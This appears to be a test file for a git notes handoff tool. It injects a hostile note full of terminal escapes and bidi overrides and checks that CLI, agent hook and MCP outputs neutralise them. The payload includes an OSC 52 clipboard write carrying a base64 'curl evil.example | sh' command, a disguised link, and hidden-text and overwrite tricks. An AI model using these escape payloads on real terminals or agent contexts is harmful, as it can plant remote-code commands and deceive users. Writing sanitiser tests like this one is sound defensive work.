/**
 * Issue 23, point 1, played as a malicious collaborator: a note written with plain
 * `git notes` (no git-handoff), pushed to a bare remote and fetched into the victim's clone,
 * holds terminal escapes (OSC 52 clipboard write, OSC 8 link, window title, clear screen,
 * cursor movement, concealed text, a bare CR overwrite, a C1 CSI) and bidi overrides. Every
 * human rendering and every agent context shows them visibly; `--json` keeps the exact text;
 * the stored note is unchanged. One case runs `show` under `script` for a real terminal.
 */
import { describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import { TestRepo, tempDir } from '../helpers/repo.js';
import { cliPath, handoff } from '../helpers/cli.js';

const TRIGGER = 'session handoff: read on start, write on end';

// What the attacker's note says, as YAML double-quoted escapes (so the note is valid YAML).
const SUMMARY_YAML =
  'pwn \\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a title\\e]0;owned\\a \\e[2J\\e[H clear \\rOVERWRITE \\u202Eevil\\u202C \\e]8;;http://evil.example/\\e\\\\link\\e]8;;\\e\\\\ \\e[8mhidden\\e[0m \\x9b31m csi \\u2066iso\\u2069';
const SUMMARY =
  'pwn \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 title\x1b]0;owned\x07 \x1b[2J\x1b[H clear \rOVERWRITE \u202Eevil\u202C \x1b]8;;http://evil.example/\x1b\\link\x1b]8;;\x1b\\ \x1b[8mhidden\x1b[0m \x9b31m csi \u2066iso\u2069';
const NEXT_YAML = 'run \\e[31mred\\e[0m then \\u202Erevert';
const NEXT = 'run \x1b[31mred\x1b[0m then \u202Erevert';

/** Any character the sanitiser must never let through (C0 but tab and LF, DEL, C1, bidi, LS/PS). */
const RAW = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]/;
const expectInert = (text: string, what: string) => {
  const m = RAW.exec(text.replace(/\r\n/g, '\n'));
  expect(
    m,
    `${what}: raw U+${m?.[0].charCodeAt(0).toString(16)} at ${m?.index} in ${JSON.stringify(text.slice(Math.max(0, (m?.index ?? 0) - 20), (m?.index ?? 0) + 20))}`,
  ).toBeNull();
};
/** The visible forms: ESC as ^[, BEL as ^G, CR as ^M, C1 and bidi as \uXXXX. */
const expectVisible = (text: string, what: string) => {
  expectInert(text, what);
  expect(text, what).toContain('^[]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==^G');
  expect(text, what).toContain('^MOVERWRITE');
  expect(text, what).toContain('\\u202Eevil\\u202C');
};

/** The attacker's clone writes natively and pushes; the victim clones and fetches the notes. */
function victim(): { repo: TestRepo; noteBlob: string } {
  const bare = TestRepo.init({ bare: true });
  const attacker = TestRepo.init();
  attacker.commit('feat: start', { 'CLAUDE.md': `# Rules\n\n${TRIGGER}\n`, 'GEMINI.md': `${TRIGGER}\n`, 'AGENTS.md': `${TRIGGER}\n` });
  attacker.git('notes', '--ref=handoff', 'add', '-m', `schema: 1\nbranch: main\nsummary: "first, harmless"\n`, 'HEAD');
  attacker.commit('feat: more', { 'b.txt': 'b\n' });
  attacker.git(
    'notes',
    '--ref=handoff',
    'add',
    '-m',
    `schema: 1\nbranch: main\nsummary: "${SUMMARY_YAML}"\ncursor:\n  next_step: "${NEXT_YAML}"\nguards: ["\\e[1Ano\\e[2K force"]\n`,
    'HEAD',
  );
  attacker.git('remote', 'add', 'origin', bare.dir);
  attacker.git('push', '-q', 'origin', 'main', 'refs/notes/handoff');
  const dir = tempDir();
  const repo = new TestRepo(dir, attacker.env);
  spawnSync('git', ['clone', '-q', bare.dir, dir], { env: repo.tick() });
  repo.git('fetch', '-q', 'origin', 'refs/notes/handoff:refs/notes/handoff');
  const noteBlob = repo.git('rev-parse', 'refs/notes/handoff:' + repo.head()).trim();
  return { repo, noteBlob };
}

describe('a fetched note with terminal escapes and bidi controls', () => {
  const { repo, noteBlob } = victim();

  it('the fetched note itself carries the raw bytes (the attack is real)', () => {
    expect(repo.nativeNote()).toContain(SUMMARY_YAML);
    const j = handoff(repo, ['show', '--json']);
    expect(j.json.handoff.summary).toBe(SUMMARY);
  });

  it('show, log, diff, search and export (every format to stdout) print them visibly', () => {
    for (const args of [['show'], ['log'], ['diff'], ['search', 'pwn'], ['export'], ['export', '--format', 'yaml']]) {
      const r = handoff(repo, args);
      expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(0);
      expectInert(r.stderr, `${args.join(' ')} stderr`);
      // log and search show one line of a field; the stored YAML escapes ESC itself (`\e`)
      if (args[0] === 'log' || args[0] === 'search' || args.includes('yaml')) expectInert(r.stdout, args.join(' '));
      else expectVisible(r.stdout, args.join(' '));
    }
    expect(handoff(repo, ['log']).stdout).toContain('pwn ^[]52;c;');
  });

  it('--json keeps the exact text, JSON-escaped (bidi and C1 as \\u escapes), for show, log, diff, search and export', () => {
    const show = handoff(repo, ['show', '--json']);
    expectInert(show.stdout, 'show --json');
    expect(show.json.handoff.summary).toBe(SUMMARY);
    expect(show.json.handoff.cursor.next_step).toBe(NEXT);
    const log = handoff(repo, ['log', '--json']);
    expectInert(log.stdout, 'log --json');
    expect(log.json.versions[0].summary).toBe(SUMMARY);
    const diff = handoff(repo, ['diff', '--json']);
    expectInert(diff.stdout, 'diff --json');
    expect(JSON.stringify(diff.json)).toContain(JSON.stringify(SUMMARY).slice(1, -1));
    const search = handoff(repo, ['search', 'pwn', '--json']);
    expectInert(search.stdout, 'search --json');
    const exp = handoff(repo, ['export', '--format', 'json']);
    expectInert(exp.stdout, 'export --format json');
    expect(JSON.parse(exp.stdout).summary).toBe(SUMMARY);
  });

  it('export -o writes the exact content to the file (data, not a rendering); the stored note is unchanged', () => {
    const out = join(repo.dir, 'out.json');
    expect(handoff(repo, ['export', '--format', 'json', '-o', out]).code).toBe(0);
    expect(JSON.parse(readFileSync(out, 'utf8')).summary).toBe(SUMMARY);
    expect(repo.git('rev-parse', 'refs/notes/handoff:' + repo.head()).trim()).toBe(noteBlob);
  });

  it('on a real terminal (script), with colour, show and log print no raw escape but their own colours', () => {
    const has = spawnSync('script', ['--version'], { encoding: 'utf8' });
    if (has.status !== 0) throw new Error('script(1) is needed for this test (util-linux)');
    for (const cmd of ['show', 'log', 'diff']) {
      const env = { ...repo.tick(), PATH: cliPath(), TERM: 'xterm' } as NodeJS.ProcessEnv;
      delete env.NO_COLOR;
      const r = spawnSync('script', ['-qec', `git handoff ${cmd}`, '/dev/null'], { cwd: repo.dir, env, encoding: 'utf8' });
      expect(r.status, r.stderr).toBe(0);
      // our own colour codes (SGR 0, 1, 2, 33) are the only escapes on the terminal
      const ours = r.stdout.replace(/\x1b\[(0|1|2|33)m/g, '').replace(/\r\n/g, '\n');
      expect(r.stdout, `${cmd} is coloured on a terminal`).toMatch(/\x1b\[(1|33)m/);
      expectInert(ours, `${cmd} on a terminal`);
      if (cmd !== 'log') expect(ours).toContain('^[]52;c;');
    }
  });

  it('the session-start context of every agent holds no raw control, bidi or escape', () => {
    const agents = ['claude', 'codex', 'gemini', 'copilot', 'cursor', 'droid', 'opencode'];
    let answered = 0;
    for (const agent of agents) {
      const input = JSON.stringify({ session_id: `s-${agent}`, cwd: repo.dir, hook_event_name: 'SessionStart', source: 'startup' });
      const r = handoff(repo, ['hook', 'session-start', '--agent', agent], { input });
      expect(r.code, `${agent}: ${r.stderr}`).toBe(0);
      expectInert(r.stderr, `${agent} stderr`);
      if (!r.stdout) continue;
      answered++;
      // what the model reads: every string inside the agent's JSON answer
      const strings: string[] = [];
      JSON.parse(r.stdout, (_k, v) => (typeof v === 'string' && strings.push(v), v));
      const text = strings.join('\n');
      expectVisible(text, `${agent} session-start context`);
    }
    expect(answered).toBeGreaterThanOrEqual(3);
  });

  it('MCP handoff_show, handoff_log, handoff_diff, handoff_search and both resources give the agent visible text; structured content keeps the exact text', async () => {
    const env = { ...(repo.tick() as Record<string, string>), PATH: cliPath() };
    const transport = new StdioClientTransport({ command: 'git', args: ['handoff', 'mcp'], cwd: repo.dir, env, stderr: 'pipe' });
    const client = new Client({ name: 'attack', version: '1.0.0' });
    await client.connect(transport);
    try {
      const show = (await client.callTool({ name: 'handoff_show', arguments: {} })) as any;
      expectVisible(show.content[0].text, 'handoff_show');
      expect(show.structuredContent.handoff.summary).toBe(SUMMARY);
      for (const [name, args] of [
        ['handoff_log', {}],
        ['handoff_diff', {}],
        ['handoff_search', { query: 'pwn' }],
      ] as const) {
        const r = (await client.callTool({ name, arguments: args })) as any;
        expect(r.isError, JSON.stringify(r)).toBeFalsy();
        expectInert(r.content[0].text, name);
      }
      for (const uri of ['handoff://latest/bookmark', 'handoff://latest']) {
        const res = await client.readResource({ uri });
        expectInert((res.contents[0] as any).text, uri);
      }
    } finally {
      await client.close();
    }
  });
});
